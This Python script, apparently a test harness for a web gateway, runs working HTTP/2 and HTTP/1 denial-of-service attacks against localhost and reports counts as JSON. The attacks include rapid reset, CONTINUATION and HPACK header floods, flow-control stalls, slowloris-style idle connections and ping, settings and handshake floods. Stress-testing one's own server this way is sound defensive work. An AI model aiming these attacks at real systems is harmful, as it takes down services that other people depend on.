#!/usr/bin/python3
"""Attacks a FilmyFly gateway in one way for some seconds, and prints as JSON what it did.

    attacker.py NAME HTTP_PORT HTTPS_PORT SECONDS [--from ADDRESS] [--connections N]

`--from many` takes another address of 127.0.0.0/8 for each connection. What a unit is (a frame, a request, a connection)
depends on the attack; whatever the gateway does about it, the attacker begins again until its time is over.
"""

import argparse
import contextlib
import json
import os
import random
import selectors
import socket
import ssl
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = b"\0\0\0\x08"
TLS = ssl.create_default_context()
TLS.check_hostname, TLS.verify_mode = False, ssl.CERT_NONE
TLS.set_alpn_protocols(["h2"])
PLAIN_TLS = ssl.create_default_context()
PLAIN_TLS.check_hostname, PLAIN_TLS.verify_mode = False, ssl.CERT_NONE


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def setting(number, value):
    return number.to_bytes(2, "big") + value.to_bytes(4, "big")


def block(path="/", method=2):
    """A header block without Huffman codes that changes no table (RFC 7541, 6.2.2)."""
    return bytes([0x80 | method]) + b"\x87\x04\x7f" + bytes([len(path) - 127]) + path.encode() if len(path) > 126 else (
        bytes([0x80 | method]) + b"\x87\x04" + bytes([len(path)]) + path.encode()) + b"\x01\x09localhost"


class Attack:
    """One way of attacking: `run` is called in each of `connections` threads until the time is over."""

    def __init__(self, options):
        self.options, self.units, self.made, self.lock = options, 0, 0, threading.Lock()
        self.end = time.monotonic() + options.seconds

    def over(self):
        return time.monotonic() >= self.end

    def count(self, units=1):
        with self.lock:
            self.units += units

    def connect(self, tls=True, buffer=None):
        port = self.options.https if tls else self.options.http
        connection = socket.socket()
        connection.settimeout(5)
        if buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        source = self.options.source
        if source == "many":
            source = f"127.{random.randrange(1, 250)}.{random.randrange(250)}.{random.randrange(2, 250)}"
        if source:
            connection.bind((source, 0))
        connection.connect(("127.0.0.1", port))
        with self.lock:
            self.made += 1
        return TLS.wrap_socket(connection, server_hostname="localhost") if tls else connection

    def h2(self, settings=b"", buffer=None):
        connection = self.connect(buffer=buffer)
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        return connection

    def until_closed(self, connection, make, units, reads=True):
        """Sends what `make(n)` gives again and again; what comes back is read and forgotten, or left where it is."""
        n = 0
        connection.settimeout(0.5)
        while not self.over():
            try:
                connection.sendall(make(n))
            except TimeoutError:
                continue
            self.count(units)
            n += 1
            if reads:
                drain(connection)

    def hold(self, connection):
        """Keeps it open without a word until it is closed or the time is over."""
        connection.settimeout(0.5)
        while not self.over():
            with contextlib.suppress(TimeoutError):
                if not connection.recv(65536):
                    return

    def hold_unread(self, connection):
        """The same, and nothing that comes is taken: only a reset shows."""
        poll = selectors.DefaultSelector()
        poll.register(connection, 0x1)
        while not self.over():
            time.sleep(0.1)
            if connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                return

    def thread(self):
        while not self.over():
            try:
                self.run()
            except (OSError, ConnectionError):
                time.sleep(0.005)

    def start(self):
        threads = [threading.Thread(target=self.thread, daemon=True) for _ in range(self.options.connections)]
        for each in threads:
            each.start()
        for each in threads:
            each.join(self.options.seconds + 20)
        return {"attack": type(self).__name__, "units": self.units, "connections": self.made}


def drain(connection):
    connection.setblocking(False)
    try:
        while True:
            if not connection.recv(65536):
                raise ConnectionError("closed")
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    finally:
        connection.settimeout(0.5)


class rapid_reset(Attack):
    def run(self):
        def make(n):
            streams = range(200 * n + 1, 200 * n + 201, 2)
            return b"".join(frame(HEADERS, 5, s, block(f"/search?q=r{s}")) + frame(RST, 0, s, CANCEL) for s in streams)
        with self.h2() as connection:
            self.until_closed(connection, make, 100)


class provoked_reset(Attack):
    """A window of 0 more is an error of the stream, so it is the server that resets it."""

    def run(self):
        def make(n):
            streams = range(200 * n + 1, 200 * n + 201, 2)
            return b"".join(frame(HEADERS, 5, s, block(f"/search?q=p{s}")) + frame(WINDOW, 0, s, bytes(4)) for s in streams)
        with self.h2() as connection:
            self.until_closed(connection, make, 100)


class continuation(Attack):
    def run(self):
        with self.h2() as connection:
            connection.sendall(frame(HEADERS, 0, 1, block()))
            self.until_closed(connection, lambda n: frame(CONTINUATION, 0, 1) * 1000, 1000)


class header_bomb(Attack):
    """A field of 4,000 bytes goes into the table, and is named thousands of times with a byte each."""

    def run(self):
        big = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000
        with self.h2() as connection:
            connection.sendall(frame(HEADERS, 5, 1, block() + big))
            self.until_closed(connection, lambda n: frame(HEADERS, 5, 2 * n + 3, block() + b"\xbe" * 16000), 1)


class header_memory(Attack):
    """Requests that never end, each of as many fields as are read at all, each of which costs a byte."""

    def run(self):
        with self.h2() as connection:
            for stream in range(1, 199, 2):
                connection.sendall(frame(HEADERS, 4, stream, block("/login", 3) + b"\x90" * 990))
                self.count()
            self.hold(connection)


class zero_window(Attack):
    """A hundred answers that are never taken."""

    def run(self):
        with self.h2(setting(4, 0)) as connection:
            connection.sendall(b"".join(frame(HEADERS, 5, s, block()) for s in range(1, 200, 2)))
            self.count(100)
            self.hold(connection)


class tiny_window(Attack):
    """An answer that is taken a byte at a time."""

    def run(self):
        with self.h2(setting(4, 0)) as connection:
            connection.sendall(frame(HEADERS, 5, 1, block()))
            self.until_closed(connection, lambda n: frame(WINDOW, 0, 1, b"\0\0\0\1"), 1)


class slow_body(Attack):
    """A byte of a body every two seconds, in many streams."""

    def run(self):
        with self.h2() as connection:
            streams = range(1, 100, 2)
            connection.sendall(b"".join(frame(HEADERS, 4, s, block("/login", 3)) for s in streams))
            while not self.over():
                for stream in streams:
                    connection.sendall(frame(DATA, 0, stream, b"x"))
                    self.count()
                drain(connection)
                time.sleep(min(2, max(0.0, self.end - time.monotonic())))


class slow_frame(Attack):
    """A frame that comes a byte at a time and never ends."""

    def run(self):
        with self.h2() as connection:
            for byte in frame(HEADERS, 5, 1, block("/" + "x" * 100) + bytes(100)):
                connection.sendall(bytes([byte]))
                self.count()
                drain(connection)
                time.sleep(0.3)
                if self.over():
                    return


class body_memory(Attack):
    """Bodies just short of whole, so that all of them must be kept."""

    def run(self):
        with self.h2() as connection:
            piece = bytes(16384)
            for stream in range(1, 199, 2):
                connection.sendall(frame(HEADERS, 4, stream, block("/login", 3)))
                for _ in range(200):
                    connection.sendall(frame(DATA, 0, stream, piece))
                    self.count()
                    if self.over():
                        return
                drain(connection)
            self.hold(connection)


class ping_flood(Attack):
    def run(self):
        with self.h2() as connection:
            self.until_closed(connection, lambda n: frame(PING, 0, 0, b"12345678") * 500, 500)


class ping_flood_unread(Attack):
    """Nothing that comes back is taken."""

    def run(self):
        with self.h2(buffer=4096) as connection:
            self.until_closed(connection, lambda n: frame(PING, 0, 0, b"12345678") * 500, 500, reads=False)


class settings_flood(Attack):
    def run(self):
        with self.h2() as connection:
            make = lambda n: frame(SETTINGS, 0, 0, setting(4, 70000)) * 100 + frame(SETTINGS, 0, 0, setting(4, 80000)) * 100
            self.until_closed(connection, make, 200)


class priority_flood(Attack):
    def run(self):
        with self.h2() as connection:
            make = lambda n: b"".join(frame(PRIORITY, 0, s, bytes(4) + b"\x10") for s in (1, 3, 5, 7)) * 100
            self.until_closed(connection, make, 400)


class empty_data(Attack):
    def run(self):
        with self.h2() as connection:
            connection.sendall(frame(HEADERS, 4, 1, block("/login", 3)))
            self.until_closed(connection, lambda n: frame(DATA, 0, 1) * 500, 500)


class window_flood(Attack):
    def run(self):
        with self.h2() as connection:
            connection.sendall(frame(HEADERS, 5, 1, block()))
            self.until_closed(connection, lambda n: frame(WINDOW, 0, 1, b"\0\0\x10\0") * 500, 500)


class unknown_frames(Attack):
    def run(self):
        with self.h2() as connection:
            self.until_closed(connection, lambda n: frame(200, 0, 0, b"x" * 50) * 200, 200)


class handshakes(Attack):
    """A TLS handshake after the other."""

    def run(self):
        with self.connect():
            self.count()


class idle_connections(Attack):
    """As many connections as there is room for, each with the beginning of a request."""

    def begin(self):
        connection = self.connect(tls=False)
        connection.sendall(b"GET / HTTP/1.1\r\nHost: ")
        return connection

    def thread(self):
        held = []
        while not self.over():
            try:
                held.append(self.begin())
                self.count()
            except OSError:
                time.sleep(0.05)
            if len(held) > self.options.each:
                held.pop(0).close()


class idle_tls(idle_connections):
    """The same over TLS and HTTP/2: connections that have shaken hands and say no more."""

    def begin(self):
        return self.h2()


class pipelining(Attack):
    """HTTP/1 requests without end, and no wait for their answers."""

    def run(self):
        with self.connect(tls=False) as connection:
            self.until_closed(connection, lambda n: b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n" * 500, 500)


class unread_pipeline(Attack):
    """The same, and nothing that comes back is taken."""

    def run(self):
        with self.connect(tls=False, buffer=4096) as connection:
            connection.settimeout(0.5)
            with contextlib.suppress(TimeoutError):
                while not self.over():
                    connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * 50)
                    self.count(50)
            self.hold_unread(connection)


class misses(Attack):
    """Pages that are in no store, each once."""

    def run(self):
        with self.h2() as connection:
            def make(n):
                streams = range(40 * n + 1, 40 * n + 41, 2)
                return b"".join(frame(HEADERS, 5, s, block(f"/search?q=m{random.getrandbits(48):x}")) for s in streams)
            self.until_closed(connection, make, 20)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name")
    parser.add_argument("http", type=int)
    parser.add_argument("https", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--from", dest="source", default="")
    parser.add_argument("--connections", type=int, default=4, help="at a time")
    parser.add_argument("--each", type=int, default=1000, help="connections that one of those may stand for")
    options = parser.parse_args()
    attack = globals().get(options.name)
    if not (isinstance(attack, type) and issubclass(attack, Attack) and attack is not Attack):
        sys.exit(f"{options.name} is no attack")
    print(json.dumps(attack(options).start()))
    sys.stdout.flush()
    os._exit(0)  # threads may still wait for a server that does not answer


if __name__ == "__main__":
    main()
